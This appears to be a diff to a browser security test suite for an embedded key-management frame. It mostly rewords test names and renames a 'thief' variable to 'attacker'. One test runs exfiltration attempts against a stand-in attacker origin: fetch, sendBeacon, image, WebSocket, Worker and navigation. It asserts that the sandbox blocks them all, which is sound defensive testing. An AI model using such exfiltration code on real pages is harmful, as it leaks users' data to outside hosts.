@@ -18,7 +18,7 @@ export const channel: readonly Case[] = [
     },
   },
   {
-    name: "nor can a page that embeds a host that embeds it",
+    name: "a page cannot embed it through an allowed host",
     run: async stage => {
       const host = await stage.bare();
       await host.tab.goto(`${stage.origins.evil}/`);
@@ -36,7 +36,7 @@ export const channel: readonly Case[] = [
     },
   },
   {
-    name: "without an origin of its own it does not start",
+    name: "it does not start without its own origin",
     run: async stage => {
       const host = await stage.fresh();
       const url = `${stage.origins.kms}/kms.html`;
@@ -45,7 +45,7 @@ export const channel: readonly Case[] = [
     },
   },
   {
-    name: "the channel opens once: a second opening and messages to the window do nothing",
+    name: "the channel opens once: a second open message and other messages to the window have no effect",
     run: async stage => {
       const host = await stage.fresh();
       await host.generate("ES256", "signing");
@@ -70,7 +70,7 @@ export const channel: readonly Case[] = [
     },
   },
   {
-    name: "an opening from anybody but the parent is no opening",
+    name: "an open message counts only from the parent",
     run: async stage => {
       const host = await stage.fresh();
       await host.tab.goto(`${stage.origins.app}/`);
@@ -113,7 +113,7 @@ export const channel: readonly Case[] = [
     },
   },
   {
-    name: "nothing but plain data comes out, whatever is asked",
+    name: "every response is plain data",
     run: async stage => {
       const host = await stage.fresh();
       const { kid } = await host.generate("ES256", "signing");
@@ -134,7 +134,7 @@ export const channel: readonly Case[] = [
     },
   },
   {
-    name: "a key object cannot be smuggled in, nor anything else that is not data",
+    name: "key objects and other non-data are rejected as parameters",
     run: async stage => {
       const host = await stage.fresh();
       const { kid } = await host.generate("ES256", "signing");
@@ -155,7 +155,7 @@ export const channel: readonly Case[] = [
     },
   },
   {
-    name: "a flood is refused and does not stop what comes after it",
+    name: "a flood of requests is refused and does not block later requests",
     run: async stage => {
       const host = await stage.fresh();
       const { kid } = await host.generate("Ed25519", "signing");
@@ -178,19 +178,19 @@ export const channel: readonly Case[] = [
     },
   },
   {
-    name: "nothing leaves by the network or by navigating itself away",
+    name: "no data leaves through the network or navigation",
     run: async stage => {
       const host = await stage.fresh();
-      const { thief, stolen } = stage.world;
+      const { attacker, stolen } = stage.world;
       stolen.length = 0;
       const tried = await host.tab.inFrame<readonly string[]>(
-        `async thief => {
+        `async attacker => {
         const out = [];
-        await fetch(thief + "/fetch", { mode: "no-cors" }).then(() => out.push("fetch"), () => undefined);
-        try { navigator.sendBeacon(thief + "/beacon", "x"); } catch {}
-        try { new Image().src = thief + "/image"; } catch {}
-        try { new WebSocket(thief.replace("http", "ws") + "/socket"); } catch {}
-        const code = "fetch(" + JSON.stringify(thief + "/worker") + ").then(() => postMessage('out'), () => postMessage('blocked'))";
+        await fetch(attacker + "/fetch", { mode: "no-cors" }).then(() => out.push("fetch"), () => undefined);
+        try { navigator.sendBeacon(attacker + "/beacon", "x"); } catch {}
+        try { new Image().src = attacker + "/image"; } catch {}
+        try { new WebSocket(attacker.replace("http", "ws") + "/socket"); } catch {}
+        const code = "fetch(" + JSON.stringify(attacker + "/worker") + ").then(() => postMessage('out'), () => postMessage('blocked'))";
         let worker;
         try { worker = new Worker(URL.createObjectURL(new Blob([code]))); } catch {}
         if (worker !== undefined) out.push("an untrusted worker started");
@@ -200,18 +200,21 @@ export const channel: readonly Case[] = [
         await new Promise(resolve => setTimeout(resolve, 500));
         return out;
       }`,
-        thief,
+        attacker,
       );
       assert.deepEqual(tried, []);
-      await host.tab.inFrame(`thief => { setTimeout(() => { location.href = thief + "/navigated"; }, 0); }`, thief);
+      await host.tab.inFrame(
+        `attacker => { setTimeout(() => { location.href = attacker + "/navigated"; }, 0); }`,
+        attacker,
+      );
       await host.tab.run("() => new Promise(resolve => setTimeout(resolve, 1500))");
       assert.deepEqual(stolen, []);
-      assert.equal((await fetch(`${thief}/works`)).ok, true);
-      assert.deepEqual(stolen, ["/works"], "the thief does hear what reaches it");
+      assert.equal((await fetch(`${attacker}/works`)).ok, true);
+      assert.deepEqual(stolen, ["/works"], "the attacker does hear what reaches it");
     },
   },
   {
-    name: "the policy that the host demands of the frame: Chromium holds it to it, the others load whatever comes",
+    name: "the host's required policy: Chromium enforces it, other engines ignore it",
     run: async stage => {
       const host = await stage.fresh();
       const policy = (await stage.world.policy())
@@ -229,7 +232,7 @@ export const channel: readonly Case[] = [
     },
   },
   {
-    name: "refusals are in the record too",
+    name: "refusals are in the audit log too",
     run: async stage => {
       const host = await stage.fresh();
       const { kid } = await host.generate("ES256", "signing");
